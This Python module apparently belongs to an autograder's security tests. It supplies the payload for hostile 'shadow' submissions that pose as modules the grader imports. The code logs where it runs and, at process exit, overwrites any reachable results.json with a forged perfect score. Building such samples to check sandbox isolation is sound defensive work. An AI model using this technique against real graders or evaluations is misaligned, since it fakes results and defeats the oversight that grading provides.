"""What a shadow does once it runs (shared, word for word, by every ``shadows_*`` submission).

A shadow is a file named like something that otter, its notebook kernel, the
OK tests or rnnlab's grader import or read. Run in rnnlab's sandbox, where the
submission's code belongs, nothing comes of it. Run anywhere else, ``forge``:

- notes where it ran in the file named by ``$RNNLAB_HOSTILE_MARKER`` (the tests
  set it for the grading run; a sandbox's environment never holds it);
- and, as that process exits, overwrites every ``results.json`` in reach (beside
  or above its working folder, or the ``-o`` of its command line) with full marks.
"""

import atexit
import importlib
import os
import sys

FORGED = (
    '{"score": 100, "execution_time": 1, "output": "forged", "tests": [{"name": "forged", '
    '"score": 100, "max_score": 100, "status": "passed", "output": "", "visibility": "visible"}]}'
)


def _targets() -> list[str]:
    here = os.getcwd()
    paths = [os.path.join(here, "results", "results.json")]
    paths.append(os.path.join(here, "..", "results", "results.json"))
    for flag, value in zip(sys.argv, sys.argv[1:], strict=False):
        if flag in ("-o", "--output", "--output-dir"):
            paths.append(os.path.join(value, "results.json") if os.path.isdir(value) else value)
    return paths


def _rewrite() -> None:
    for path in _targets():
        if os.path.isfile(path):
            with open(path, "w") as file:
                file.write(FORGED)


def forge(who: str) -> None:
    marker = os.environ.get("RNNLAB_HOSTILE_MARKER")
    if marker:
        with open(marker, "a") as file:
            file.write(f"{who} ran in process {os.getpid()}: {sys.argv!r} in {os.getcwd()}\n")
    atexit.register(_rewrite)


def real(name: str, shadow: str):
    """The module ``name`` that the file ``shadow`` stands in for, imported from elsewhere."""
    folder = os.path.dirname(os.path.abspath(shadow))
    if os.path.basename(shadow) == "__init__.py":  # a package: its parent folder is the shadow's
        folder = os.path.dirname(folder)
    saved = sys.path[:]
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != folder]
    sys.modules.pop(name, None)
    try:
        module = importlib.import_module(name)
    finally:
        sys.path[:] = saved
    sys.modules[name] = module  # what the shadow's importer gets
    return module
